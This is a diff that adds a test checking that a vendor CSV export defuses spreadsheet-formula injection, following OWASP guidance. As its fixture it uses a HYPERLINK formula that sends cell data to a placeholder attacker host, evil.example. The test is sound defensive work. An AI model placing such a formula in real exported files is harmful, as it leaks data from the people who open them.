@@ -256,6 +256,32 @@ describe('templates and export', () => {
     }
   });
 
+  it('exports readable cells and defuses spreadsheet formulas (OWASP CSV injection)', async () => {
+    const a = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const res = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/vendors',
+      headers: a.headers,
+      payload: vendorBody({ companyName: evil, notes: '@SUM(1+1)', officeLocations: [{ cityId: 1, address: 'King Fahd Rd' }] }) as object,
+    });
+    expect(res.statusCode, res.body).toBe(201);
+    const exp = await t.app.inject({ url: '/api/v1/csv/export/vendors?lang=en', headers: a.headers });
+    const rows = Papa.parse<string[]>(exp.body.slice(1), { skipEmptyLines: true }).data;
+    const header = rows[0];
+    const row = rows[1];
+    const cell = (label: string) => row[header.indexOf(label)];
+    expect(cell(CSV_COLUMNS.vendors.find((c) => c.key === 'companyName')!.en)).toBe(`'${evil}`);
+    expect(cell(CSV_COLUMNS.vendors.find((c) => c.key === 'notes')!.en)).toBe("'@SUM(1+1)");
+    // the phone begins with + too: defused on export, read back on import
+    expect(cell(CSV_COLUMNS.vendors.find((c) => c.key === 'phone')!.en)).toMatch(/^'\+966/);
+    // structured cells are readable text, not JSON
+    const office = cell(CSV_COLUMNS.vendors.find((c) => c.key === 'officeLocations')!.en);
+    expect(office).not.toMatch(/[{}[\]"]/);
+    expect(office).toMatch(/\(1\) — King Fahd Rd$/);
+    for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('export → import round trip (vendors, drivers, vehicles) in Arabic', async () => {
     const a = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
     const b = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
